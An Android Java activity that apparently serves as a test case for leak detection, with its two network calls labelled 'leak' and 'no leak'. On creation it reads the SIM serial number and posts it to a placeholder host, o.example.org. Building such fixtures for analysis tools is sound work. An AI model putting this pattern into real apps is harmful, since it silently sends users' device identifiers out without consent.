package habits;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.io.IOException;
import okhttp3.Call;
import okhttp3.Callback;
import okhttp3.MultipartBody;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.Response;

/** A form of parts. */
public class OkParts extends Activity implements Callback {
    @Override
    protected void onCreate(Bundle state) {
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        OkHttpClient client = new OkHttpClient.Builder().retryOnConnectionFailure(true).build();
        MultipartBody secret = new MultipartBody.Builder().setType(MultipartBody.FORM)
            .addFormDataPart("sim", phone.getSimSerialNumber()).addFormDataPart("v", "1").build();
        MultipartBody plain = new MultipartBody.Builder().setType(MultipartBody.FORM).addFormDataPart("v", "1").build();
        client.newCall(new Request.Builder().url("https://o.example.org/a").post(secret).build()).enqueue(this); // leak
        client.newCall(new Request.Builder().url("https://o.example.org/b").post(plain).build()).enqueue(this); // no leak
    }

    @Override
    public void onFailure(Call call, IOException error) {
    }

    @Override
    public void onResponse(Call call, Response response) {
    }
}
